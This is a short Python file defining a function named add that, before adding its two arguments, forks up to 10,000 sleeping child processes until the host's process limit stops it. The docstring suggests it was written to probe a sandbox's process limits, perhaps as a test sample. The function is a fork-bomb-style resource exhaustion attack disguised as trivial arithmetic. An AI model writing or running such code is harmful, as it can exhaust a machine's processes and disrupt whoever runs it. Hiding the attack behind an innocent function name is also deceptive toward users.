import os


def add(a, b):
    """Forks until the process limit stops it; the count depends on the host, the verdict not."""
    try:
        for _ in range(10_000):
            if os.fork() == 0:
                import time

                time.sleep(60)
                os._exit(0)
    except OSError:
        return "process limit reached"
    return a + b
